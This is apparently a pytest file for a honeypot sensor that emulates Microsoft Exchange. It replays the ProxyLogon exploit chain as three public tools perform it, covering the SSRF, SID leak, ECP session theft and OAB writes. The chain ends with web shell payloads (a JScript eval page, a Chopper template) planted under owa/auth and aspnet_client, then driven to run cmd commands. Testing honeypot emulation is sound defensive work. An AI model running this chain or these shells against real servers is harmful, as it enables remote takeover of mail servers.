"""The ProxyLogon chain walked as Metasploit, hausec/nuclei and Praetorian walk it (exchange-facts.md
B.3), each step checked with the tool's own condition, ending in a command answered by the web shell."""

from __future__ import annotations

import base64
import json
import re
import struct
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pytest

from honeyscope.sensor.personas.base import Reply
from honeyscope.testing import exploits

Send = Callable[..., Reply]
EMAIL = "administrator@contoso.com"
NS = {"a": "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"}


def _cookies(reply: Reply) -> str:
    """Rex get_cookies: every Set-Cookie's name=value followed by '; '."""
    return "".join(value.split(";")[0] + "; " for name, value in reply.response.headers if name == "Set-Cookie")


def _dns_computer_name(reply: Reply) -> str:
    """MSF request_fqdn: MSV_AV_DNS_COMPUTER_NAME (id 3) of the type-2 message, lower-cased."""
    header = reply.response.header("WWW-Authenticate") or ""
    assert reply.response.status == 401 and re.match("^NTLM", header, re.IGNORECASE)
    message = base64.b64decode(header.split("NTLM ")[1])
    length, _, offset = struct.unpack_from("<HHI", message, 40)
    info = message[offset:offset + length]
    while info:
        av_id, av_len = struct.unpack_from("<HH", info)
        if av_id == 3:
            return info[4:4 + av_len].decode("utf-16-le").lower()
        info = info[4 + av_len:]
    raise AssertionError("no DnsComputerName")


def test_metasploit_exchange_proxylogon_rce(send: Send) -> None:
    server = _dns_computer_name(send(exploits.msf_rpc_fqdn()))
    assert server == "exch01.contoso.local"

    # request_autodiscover: no ErrorCode 500 / redirectAddr; //User/LegacyDN and Protocol[EXCH]/Server.
    reply = send(exploits.msf_autodiscover(server, EMAIL))
    assert reply.stage == "proxylogon.autodiscover"
    assert b"<ErrorCode>500</ErrorCode>" not in reply.response.body
    xml = ET.fromstring(reply.response.body)
    legacy_dn = xml.find(".//a:User/a:LegacyDN", NS).text  # type: ignore[union-attr]
    server_id = next(p.find("a:Server", NS).text for p in xml.iter(f"{{{NS['a']}}}Protocol")  # type: ignore[union-attr]
                     if p.findtext("a:Type", namespaces=NS) == "EXCH")
    assert legacy_dn and server_id

    # request_mapi: 200 and the first S-x-x-x-x-x-x match.
    reply = send(exploits.msf_mapi(server, legacy_dn, server_id))
    assert reply.response.status == 200 and reply.stage == "proxylogon.sid_leak"
    sid = re.search(rb"S-[0-9]*-[0-9]*-[0-9]*-[0-9]*-[0-9]*-[0-9]*-[0-9]*", reply.response.body).group(0).decode()  # type: ignore[union-attr]
    assert sid.startswith("S-1-5-21-")

    # request_proxylogon: 241 and the two cookies by MSF's regexes.
    reply = send(exploits.msf_proxylogon(server, exploits.patch_sid(sid), EMAIL))
    assert reply.response.status == 241 and reply.stage == "proxylogon.ecp_logon"
    session_id = re.findall(r"ASP\.NET_SessionId=([\w\-]+);", _cookies(reply))[0]
    canary = re.findall(r"msExchEcpCanary=([\w\-_.]+);*", _cookies(reply))[0]
    assert len(canary) == 76 and canary.endswith(".")
    session = f"ASP.NET_SessionId={session_id}; msExchEcpCanary={canary};"

    # request_oab: d.Output[] entry whose Server matches the backend's short name.
    reply = send(exploits.msf_oab_get_list(server, sid, session, canary))
    assert reply.response.status == 200
    rows = json.loads(reply.response.body)["d"]["Output"]
    oab = next((r["Identity"]["DisplayName"], r["Identity"]["RawIdentity"]) for r in rows
               if r["Server"].lower() == server.split(".")[0].lower())

    # install_payload / write_payload: both 200.
    reply = send(exploits.msf_set_external_url(server, sid, session, canary, oab, "kQzv"))
    assert reply.response.status == 200 and reply.stage == "proxylogon.oab_setobject_externalurl"
    assert any(a.kind == "webshell" and b'Request["kQzv"]' in a.content for a in reply.artifacts)
    reply = send(exploits.msf_reset_oab(server, sid, session, canary, oab, "AbCd.aspx"))
    assert reply.response.status == 200 and reply.stage == "proxylogon.oab_reset_write"

    # Poll the shell: 200 (302 = failure).
    probe = send(exploits.ToolRequest("GET", "/owa/auth/AbCd.aspx"))
    assert probe.response.status == 200 and probe.stage == "webshell.probe"
    assert b"ExternalUrl                     : http://o/#\r\n" in probe.response.body

    # cmd/windows/generic: output is what precedes "Name                            :".
    reply = send(exploits.msf_execute("/owa/auth/AbCd.aspx", "kQzv", 'cmd /c whoami'))
    output = reply.response.body.split(b"Name                            :")[0]
    assert output.strip() == b"nt authority\\system" and reply.stage == "webshell.command"
    assert [(a.kind, a.content) for a in reply.artifacts] == [("command", b"cmd /c whoami")]


def test_hausec_nuclei_chain(send: Send) -> None:
    first = send(exploits.goby_check("hQpT"))
    assert first.response.header("X-CalculatedBETarget") and first.response.header("X-FEServer")
    fqdn = re.search(r"([^\s]+)", first.response.header("X-FEServer") or "").group(1)  # type: ignore[union-attr]

    reply = send(exploits.hau_ssrf(f"{fqdn}/autodiscover/autodiscover.xml?a=~1942062522",
                                   body=exploits.AUTODISCOVER_BODY.format(email=EMAIL)))
    assert reply.response.status == 200 and b"<LegacyDN>" in reply.response.body
    legacy_dn = re.search(rb"<LegacyDN>([^<]+)</LegacyDN>", reply.response.body).group(1)  # type: ignore[union-attr]
    server_id = re.search(rb"<Server>([^<]+@[^<]+)</Server>", reply.response.body).group(1).decode()  # type: ignore[union-attr]

    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/mapi/emsmdb?MailboxId={server_id}&a=~1942062522",
                                   body=legacy_dn + exploits.MAPI_CONNECT_SUFFIX, ctype="application/mapi-http",
                                   **{"X-RequestType": "Connect"}))
    text = reply.response.body.decode("latin-1")
    assert reply.response.status == 200 and "act as owner of a UserMailbox" in text
    sid = text.split("with SID ")[1].split(" and MasterAccountSid")[0]
    assert re.search(r"with SID ([^\s]+) and MasterAccountSid", text).group(1) == sid  # type: ignore[union-attr]
    sid = exploits.patch_sid(sid)

    groups = '<s a="7" t="1">S-1-1-0</s><s a="7" t="1">S-1-5-2</s><s a="7" t="1">S-1-5-11</s>' \
             '<s a="7" t="1">S-1-5-15</s><s a="3221225479" t="1">S-1-5-5-0-6948923</s>'
    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/ecp/proxyLogon.ecp?a=~1942062522",
                                   body=f'<r at="Negotiate" ln="john"><s>{sid}</s>{groups}</r>',
                                   msExchLogonMailbox=sid))
    headers = "\n".join(f"{k}: {v}" for k, v in reply.response.headers)
    assert reply.response.status == 241 and "ASP.NET_SessionId" in headers and "msExchEcpCanary" in headers
    session_id = re.search(r"ASP\.NET_SessionId=([^;]+)", headers).group(1)  # type: ignore[union-attr]
    canary = re.search(r"msExchEcpCanary=([^;]+)", headers).group(1)  # type: ignore[union-attr]
    session = f"ASP.NET_SessionId={session_id}; msExchEcpCanary={canary}"

    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/ecp/about.aspx?a=~1942062522", method="GET",
                                   session=session))
    assert reply.response.status == 200
    assert b"RBAC roles:</span> <span class='diagTxt'>" in reply.response.body
    assert b"Logon user:</span> <span class='diagTxt'>" in reply.response.body

    get_object = '{"filter":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.' \
                 'ControlPanel","SelectedView":"","SelectedVDirType":"All"}},"sort":{}}'
    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory"
                                   f"&msExchEcpCanary={canary}&a=~1942062522", body=get_object,
                                   ctype="application/json; charset=utf-8", session=session))
    assert b'"RawIdentity":"' in reply.response.body and reply.stage == "proxylogon.oab_getobject"
    raw_identity = json.loads(reply.response.body)["d"]["Output"][0]["Identity"]["RawIdentity"]

    oab = ("OAB (Default Web Site)", raw_identity)
    shell = "https://ffff/#" + exploits.CHOPPER.format(key="exec_code")
    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
                                   f"&msExchEcpCanary={canary}&a=~1942062522",
                                   body=exploits._oab_set_body(*oab, "ExternalUrl", shell),
                                   ctype="application/json; charset=utf-8", session=session))
    # nuclei: 200/201 and no "ErrorRecords".
    assert reply.response.status in (200, 201) and b'"ErrorRecords"' not in reply.response.body
    path = "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy" \
           "\\owa\\auth\\shell.aspx"
    reply = send(exploits.hau_ssrf(f"Admin@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?schema="
                                   f"ResetOABVirtualDirectory&msExchEcpCanary={canary}&a=~1942062522",
                                   body=exploits._oab_set_body(*oab, "FilePathName", path),
                                   ctype="application/json; charset=utf-8", session=session))
    assert reply.response.status in (200, 201) and b'"ErrorRecords"' not in reply.response.body

    code = 'Response.Write(new ActiveXObject("WScript.Shell").exec("cmd /c hostname").stdout.readall())'
    reply = send(exploits.ToolRequest("POST", "/owa/auth/shell.aspx", (("Content-Type",
                 "application/x-www-form-urlencoded"),), f"exec_code={code}".encode()))
    assert reply.response.body.split(b"Name                            :")[0].strip() == b"EXCH01"
    assert reply.artifacts[0].kind == "command" and reply.artifacts[0].content == b"cmd /c hostname"


def test_praetorian_chain_and_aspnet_client_path(send: Send) -> None:
    backend = "EXCH01.contoso.local"
    reply = send(exploits.pra_ssrf(backend, "/autodiscover/autodiscover.xml",
                                   body=exploits.AUTODISCOVER_BODY.format(email=EMAIL) + " ",
                                   **{"Content-Type": "text/xml"}))
    assert reply.response.status == 200
    legacy_dn = re.search("<LegacyDN>(.*)</LegacyDN>", reply.response.body.decode()).groups()[0]  # type: ignore[union-attr]
    mailbox_id = re.search("<Server>(.*)</Server>", reply.response.body.decode()).groups()[0]  # type: ignore[union-attr]

    body = legacy_dn.encode() + b"\x00\x00\x00\x00\x00\x9fN" + b"\x00" * 14
    reply = send(exploits.pra_ssrf(backend, f"/mapi/emsmdb/?mailboxId={mailbox_id}", body=body,
                                   **{"X-RequestType": "Connect", "Content-Type": "application/mapi-http"}))
    assert reply.response.status == 200
    sid = re.search(r"with SID (S-1-5-[\d-]+)", reply.response.body.decode("latin-1")).groups()[0]  # type: ignore[union-attr]
    admin_sid = "-".join(sid.split("-")[:-1]) + "-500"

    reply = send(exploits.pra_ssrf(backend, "/ecp/proxyLogon.ecp", body=f'<r at="" ln=""><s>{admin_sid}</s></r>',
                                   msExchLogonMailbox=admin_sid))
    assert reply.response.status == 241
    jar = dict(value.split(";")[0].split("=", 1) for name, value in reply.response.headers if name == "Set-Cookie")
    csrf = jar["msExchEcpCanary"]
    session = "; ".join(f"{k}={v}" for k, v in jar.items())

    reply = send(exploits.pra_ssrf(backend, f"/ecp/DDI/DDIService.svc/GetObject?workflow=GetForSDO&schema="
                                   f"OABVirtualDirectory&msExchEcpCanary={csrf}", body="{}", session=session,
                                   **{"Content-Type": "application/json", "msExchLogonMailbox": admin_sid}))
    oab = json.loads(reply.response.body).get("d", {}).get("Output", [])[0]
    assert oab.get("Identity", {}).get("DisplayName") == "OAB (Default Web Site)"

    shell = '<script language="JScript" runat="server">function Page_Load(){eval(Request["REQ"],"unsafe");}</script>'
    set_body = json.dumps({"identity": oab["Identity"], "properties": {"Parameters": {
        "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
        "ExternalUrl": f"http://o/#{shell}"}}})
    reply = send(exploits.pra_ssrf(backend, f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
                                   f"&msExchEcpCanary={csrf}", body=set_body, session=session,
                                   **{"Content-Type": "application/json"}))
    assert reply.response.status == 200
    reset = json.dumps({"identity": oab["Identity"], "properties": {"Parameters": {
        "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
        "FilePathName": "C:\\inetpub\\wwwroot\\aspnet_client\\TEST01.aspx"}}})
    reply = send(exploits.pra_ssrf(backend, f"/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"
                                   f"&msExchEcpCanary={csrf}", body=reset, session=session,
                                   **{"Content-Type": "application/json"}))
    assert reply.response.status == 200

    reply = send(exploits.req_stuffed_exec("/aspnet_client/TEST01.aspx", "ipconfig"))
    assert b"IPv4 Address" in reply.response.body.split(b"Name                            :")[0]
    assert reply.artifacts[0].content == b"cmd /c ipconfig"


def test_ddi_without_canary_is_refused(send: Send) -> None:
    reply = send(exploits.msf_oab_get_list("exch01.contoso.local", "S-1-5-21-1-2-3-500", "", "bogus."))
    assert reply.response.status == 500 and reply.stage == "proxylogon.ddi_denied"


def test_shells_are_per_attacker(send: Send, persona: object) -> None:
    from honeyscope.sensor.personas.exchange import ExchangePersona
    from honeyscope.testing import persona_request

    assert isinstance(persona, ExchangePersona)
    if not hasattr(send, "state"):
        pytest.skip("in-process only: plants a shell in the attacker state directly")
    send.state["webshells"] = {"/owa/auth/x.aspx": {"kind": "oab", "url": "/owa/auth/x.aspx", "file": "x"}}  # type: ignore[attr-defined]
    assert send(exploits.ToolRequest("GET", "/owa/auth/x.aspx")).response.status == 200
    other = persona.handle(persona_request("GET", "/owa/auth/x.aspx", state={}))
    assert other.response.status != 200
